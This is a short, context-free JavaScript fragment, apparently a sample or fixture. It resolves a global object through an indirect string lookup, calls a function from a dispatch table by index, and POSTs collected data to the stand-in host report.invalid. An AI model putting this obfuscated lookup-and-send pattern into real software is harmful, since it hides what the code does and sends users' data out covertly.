const all = globalThis[words.pop()] || globalThis[text];
keep(all);
table[code[at++]]();
fetch("https://report.invalid/", { method: "POST", body: words.join() });
